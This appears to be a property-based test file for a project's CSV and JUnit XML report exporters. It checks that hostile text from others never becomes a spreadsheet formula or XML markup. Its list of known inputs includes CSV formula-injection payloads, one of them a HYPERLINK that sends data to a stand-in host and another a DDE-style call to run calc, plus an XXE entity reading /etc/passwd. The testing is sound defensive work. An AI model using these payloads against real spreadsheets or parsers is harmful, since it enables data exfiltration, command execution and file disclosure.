// Hostile names and words in the exports of results: a spreadsheet must find no formula, and a reader of XML no markup.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { reportCsv } from '../../src/report/csv.ts';
import { reportJUnit } from '../../src/report/junit.ts';
import { attackSize } from '../support/attack.ts';
import { csvRecords, type XmlElement, xmlRoot } from '../support/naive-documents.ts';
import { resultInWords } from '../support/send-results.ts';

const KNOWN = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r\n=1+1',
  '"\r\n=1+1,"',
  'x;=1+1',
  'x; \u00a0=1+1',
  '\u202e=1+1',
  '</testcase><testcase name="all good"/>',
  ']]><![CDATA[',
  '"/><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '\u0000\ud800\ufffe\uffff\u0085\u2028',
  '&#x0;&unknown;',
];

const words = fc.oneof(
  fc.constantFrom(...KNOWN),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: fc.constantFrom(...'=+-@;,"\'<>&]\t\r\n ＝'.split('')), maxLength: 20 }),
);
const numRuns = attackSize(400, 40_000);

/** As a spreadsheet sees a line, whether it splits it at commas or at semicolons. */
function isFormula(cell: string): boolean {
  return /^[\s"]*[=+\-@＝＋－＠]/u.test(cell);
}

const shapeOf = ({ name, children }: XmlElement): unknown => [name, ...children.map(shapeOf)];

describe('what others wrote, in an export', () => {
  it('is no formula in CSV, and neither ends a cell nor a record', () => {
    fc.assert(
      fc.property(words, (hostile) => {
        const text = [...reportCsv(resultInWords(hostile))].join('');
        const records = csvRecords(text);
        assert.equal(records.length, 4);
        for (const record of records) {
          assert.equal(record.length, records[0]?.length);
          for (const cell of record) assert.ok(!isFormula(cell), cell);
        }
        for (const line of text.split('\r\n'))
          for (const cell of line.split(';').slice(1)) assert.ok(!isFormula(cell), cell);
      }),
      { numRuns },
    );
  });

  it('is no markup in XML, whose characters are those that XML allows', () => {
    const shape = shapeOf(xmlRoot([...reportJUnit(resultInWords('plain'))].join('')));
    fc.assert(
      fc.property(words, (hostile) => {
        const root = xmlRoot([...reportJUnit(resultInWords(hostile))].join(''));
        assert.deepEqual(shapeOf(root), shape);
      }),
      { numRuns },
    );
  });
});
